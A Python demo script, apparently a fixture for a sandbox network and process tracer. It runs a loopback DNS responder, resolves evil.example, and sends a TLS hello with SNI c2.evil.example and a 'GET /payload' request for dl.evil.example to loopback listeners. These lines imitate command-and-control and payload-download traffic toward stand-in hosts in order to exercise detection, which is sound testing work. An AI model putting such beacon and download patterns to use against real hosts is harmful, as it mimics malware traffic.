"""A harmless network/process demo traced by record-netdemo.sh inside `bwrap --unshare-net`
(only loopback exists; 192.0.2.7 is TEST-NET and unreachable). It runs a DNS responder on
127.0.0.1:53, resolves evil.example through it, connects to the answer, sends a TLS ClientHello
and an HTTP request to loopback listeners, opens a raw ICMP socket, forks, execs, signals."""
import os, signal, socket, ssl, struct, subprocess, sys, threading

def qname(n):
    return b"".join(bytes([len(l)]) + l.encode() for l in n.split(".")) + b"\0"

def dns_server(sock):
    data, peer = sock.recvfrom(512)
    reply = data[:2] + b"\x81\x80" + data[4:6] + b"\x00\x01\x00\x00\x00\x00" + data[12:]
    reply += b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + bytes([192, 0, 2, 7])
    sock.sendto(reply, peer)

srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
srv.bind(("127.0.0.1", 53))
t = threading.Thread(target=dns_server, args=(srv,)); t.start()
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
c.connect(("127.0.0.1", 53))
c.send(struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + qname("evil.example") + b"\0\1\0\1")
ans = c.recv(512)
t.join()
s = socket.socket()
try: s.connect(("192.0.2.7", 443))
except OSError: pass
s.close()

lst = socket.socket(); lst.bind(("127.0.0.1", 0)); lst.listen(2)
port = lst.getsockname()[1]
def swallow():
    for _ in range(2):
        conn, _ = lst.accept(); conn.recv(4096); conn.close()
th = threading.Thread(target=swallow); th.start()
try:
    ssl.create_default_context().wrap_socket(socket.create_connection(("127.0.0.1", port)),
                                             server_hostname="c2.evil.example")
except (OSError, ssl.SSLError): pass
h = socket.create_connection(("127.0.0.1", port))
h.sendall(b"GET /payload HTTP/1.1\r\nHost: dl.evil.example\r\n\r\n"); h.close()
th.join()
try: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
except OSError: pass
with open("/tmp/ri-netdemo-x.sh", "w") as f: f.write("#!/bin/sh\necho hi\n")
os.chmod("/tmp/ri-netdemo-x.sh", 0o755)
subprocess.run(["/tmp/ri-netdemo-x.sh"], check=False)
os.unlink("/tmp/ri-netdemo-x.sh")
pid = os.fork()
if pid == 0:
    signal.pause()
os.kill(pid, signal.SIGTERM); os.waitpid(pid, 0)
sys.exit(3)
